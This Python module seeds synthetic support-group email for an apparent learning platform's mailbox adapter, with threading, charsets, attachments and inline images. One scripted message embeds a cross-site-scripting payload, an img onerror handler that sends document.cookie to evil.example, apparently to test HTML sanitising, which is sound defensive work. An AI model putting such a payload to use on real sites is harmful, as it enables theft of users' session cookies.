"""Seed mail for the LevelUp group: what learners write, delivered as Google Groups delivers it."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, formataddr, make_msgid

GROUP = "levelup@edudesk.example"
GROUP_NAME = "LevelUp"
MAILBOX = "desk@edudesk.example"  # the Workspace member whose mailbox the adapter reads
Person = tuple[str, str]


def tiny_png() -> bytes:
    """A valid 1x1 PNG, so viewers and sniffers treat the seeded images as images."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x80\x00")) + chunk(b"IEND", b""))


@dataclass
class Mail:
    """One message to build; `sent` ones go out from the group, the rest come in through it."""

    subject: str
    text: str
    sender: Person
    html: str | None = None
    sent: bool = False
    charset: str = "utf-8"
    rewritten: bool = False  # Groups rewrote From to the group (the sender's domain has DMARC)
    attachments: Sequence[tuple[str, str, bytes]] = ()  # (filename, type, data)
    inline_image: bool = False  # the HTML shows a screenshot by cid:
    auto_reply: bool = False
    extra: dict[str, str] = field(default_factory=dict)


def build(mail: Mail, when: datetime, parent: EmailMessage | None = None,
          group: str = GROUP, mailbox: str = MAILBOX) -> EmailMessage:
    msg = EmailMessage()
    name, address = mail.sender
    if mail.rewritten:
        msg["From"] = formataddr((f"'{name}' via {GROUP_NAME}", group))
        msg["Reply-To"] = formataddr((name, address))
    else:
        msg["From"] = formataddr((name, address))
    msg["To"] = formataddr((GROUP_NAME, group)) if not mail.sent else (
        str(parent["Reply-To"] or parent["From"]) if parent else "")
    msg["Subject"] = mail.subject
    msg["Date"] = format_datetime(when)
    msg["Message-ID"] = make_msgid(domain=address.split("@")[1])
    if parent is not None:
        refs = str(parent.get("References", "")).split() + [str(parent["Message-ID"])]
        msg["In-Reply-To"] = str(parent["Message-ID"])
        msg["References"] = " ".join(refs)
    if not mail.sent:
        # What a Google Group adds to each copy it delivers to a member.
        msg["Delivered-To"] = mailbox
        msg["X-Original-Sender"] = address
        msg["Mailing-list"] = f"list {group}; contact {group.replace('@', '+owners@')}"
        msg["List-ID"] = f"<{group.replace('@', '.')}>"
        msg["Precedence"] = "list"
    if mail.auto_reply:
        msg["Auto-Submitted"] = "auto-replied"
    for key, value in mail.extra.items():
        msg[key] = value
    _body(msg, mail)
    return msg


def _body(msg: EmailMessage, mail: Mail) -> None:
    cte = "8bit" if mail.charset != "utf-8" else None  # raw latin-1 bytes: no transfer encoding
    msg.set_content(mail.text, charset=mail.charset, cte=cte)
    if mail.html is not None:
        msg.add_alternative(mail.html, subtype="html")
        if mail.inline_image:
            html_part = msg.get_payload()[1]
            html_part.add_related(tiny_png(), "image", "png", cid="<screenshot@edudesk.example>",
                                  filename="screenshot.png", disposition="inline")
    for filename, ctype, data in mail.attachments:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)


LEARNERS: list[Person] = [
    ("Priya Raman", "priya.raman@northwind.example"), ("Tomás Álvarez", "tomas@alvarez.example"),
    ("Mei Chen", "mei.chen@contoso.example"), ("Jürgen Weiß", "juergen.weiss@beispiel.example"),
    ("Amara Okafor", "amara@fabrikam.example"), ("Lucas Martin", "lucas.martin@adatum.example"),
    ("Sofia Rossi", "s.rossi@tailspin.example"), ("Kenji Watanabe", "kenji@wingtip.example"),
]
AGENT: Person = ("LevelUp Support", GROUP)
P, T, M, J, A, L = LEARNERS[:6]
_SEC = "Question about the Security Essentials course"
_BADGE = "Passed the exam but no badge — Certified Associate"

# (minutes before the newest, thread key, parent key or None, mail); keys name messages.
SCRIPT: list[tuple[int, str, str | None, Mail]] = [
    (9000, "login", None, Mail("Can't log in to Level Up", "Hi,\n\nI reset my password twice and "
        "still get \"invalid credentials\" on the learning platform.\n\nPriya", P,
        html="<p>Hi,</p><p>I reset my password twice and still get <b>&quot;invalid credentials"
             "&quot;</b> on the learning platform.</p><p>Priya</p>")),
    (8700, "login-r1", "login", Mail("Re: Can't log in to Level Up", "Hi Priya,\n\nCould you try "
        "signing in from a private window? We cleared a stale session on your account.\n\n"
        "LevelUp Support", AGENT, sent=True)),
    (8000, "login-2", "login-r1", Mail("Re: Can't log in to Level Up", "That worked, thank you!",
        P, html="<div dir=\"ltr\">That worked, thank you!</div>")),
    (7000, "progress", None, Mail("Course progress reset", "My progress in the CI/CD course went "
        "back to 0% after I switched browsers.", T, rewritten=True)),
    (6000, "security", None, Mail(_SEC, "Module 4's lab refers to a setting I cannot find in my "
        "instance. Screenshot and lab sheet attached.", M,
        html="<p>Module 4's lab refers to a setting I cannot find in my instance.</p>",
        attachments=[("lab-settings.png", "image/png", tiny_png()),
                     ("module-4-lab.pdf", "application/pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
                      b"1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")])),
    (5000, "badge", None, Mail(_BADGE, "I passed the Certified Associate exam yesterday with 92% "
        "but never received the badge email.", A,
        html="<p>I passed the <i>Certified Associate</i> exam yesterday with 92% but never "
             "received the badge email.</p><script>alert('x')</script>"
             "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">")),
    (4900, "badge-auto", "badge", Mail(f"Automatic reply: {_BADGE}", "Thank you for contacting "
        "LevelUp. We answer within one business day.", AGENT, sent=True, auto_reply=True)),
    (3000, "badge-2", "badge", Mail(f"Re: {_BADGE}", "Any update on this? My manager is asking "
        "for the badge.", A)),
    (2500, "expired", None, Mail("Badge expired", "Guten Tag,\n\nmein Abzeichen wird als "
        "abgelaufen angezeigt. Muss ich mich erneut zertifizieren?\n\nGrüße, Jürgen Weiß", J,
        charset="iso-8859-1")),
    (1500, "provisioning", None, Mail("Demo cloud environment not provisioning", "The lab "
        "environment for the course has been \"provisioning\" for two hours.", L,
        html="<p>The lab environment has been &quot;provisioning&quot; for two hours:</p>"
             "<p><img src=\"cid:screenshot@edudesk.example\" alt=\"screenshot\"></p>",
        inline_image=True)),
    (600, "credits", None, Mail("Demo cloud credits used up", "The sandbox says I have no credits "
        "left halfway through the lab.", LEARNERS[6])),
    (60, "pricing", None, Mail("Pricing question", "How much does the Premium tier cost for 50 "
        "users?", LEARNERS[7])),
]

# Subjects and first lines for generated mail beyond the script (samples/requests.md).
REQUESTS: list[tuple[str, str]] = [
    ("Can't log in to Level Up", "I reset my password and still cannot sign in."),
    ("Course progress reset", "My course progress went back to 0%."),
    ("Question about the Security Essentials course", "A lab step does not match my instance."),
    ("Passed the exam but no badge", "I passed the exam but never received the badge email."),
    ("Badge expired", "My badge shows as expired; do I need to recertify?"),
    ("Demo cloud environment not provisioning", "The lab environment is stuck provisioning."),
    ("Demo cloud credits used up", "The sandbox says I have no credits left."),
    ("Pricing question", "How much does the Premium tier cost?"),
]


def scripted(newest: datetime, limit: int | None = None,
             group: str = GROUP, mailbox: str = MAILBOX) -> Iterable[tuple[datetime, Mail, EmailMessage]]:
    built: dict[str, EmailMessage] = {}
    for minutes, key, parent, mail in SCRIPT[:limit]:
        when = newest - timedelta(minutes=minutes)
        msg = build(mail, when, built.get(parent) if parent else None, group, mailbox)
        built[key] = msg
        yield when, mail, msg


def generated(count: int, before: datetime, seed: int = 0, group: str = GROUP,
              mailbox: str = MAILBOX) -> Iterable[tuple[datetime, Mail, EmailMessage]]:
    """`count` one-message threads spread over the 30 days before `before`, oldest first."""
    rng = random.Random(seed)
    times = sorted(before - timedelta(seconds=rng.randint(3600, 30 * 86_400)) for _ in range(count))
    for n, when in enumerate(times):
        subject, text = REQUESTS[n % len(REQUESTS)]
        sender = LEARNERS[rng.randrange(len(LEARNERS))]
        mail = Mail(f"{subject} (#{n + 1})", f"{text}\n\n{sender[0]}", sender,
                    html=f"<p>{text}</p><p>{sender[0]}</p>")
        yield when, mail, build(mail, when.astimezone(UTC), None, group, mailbox)
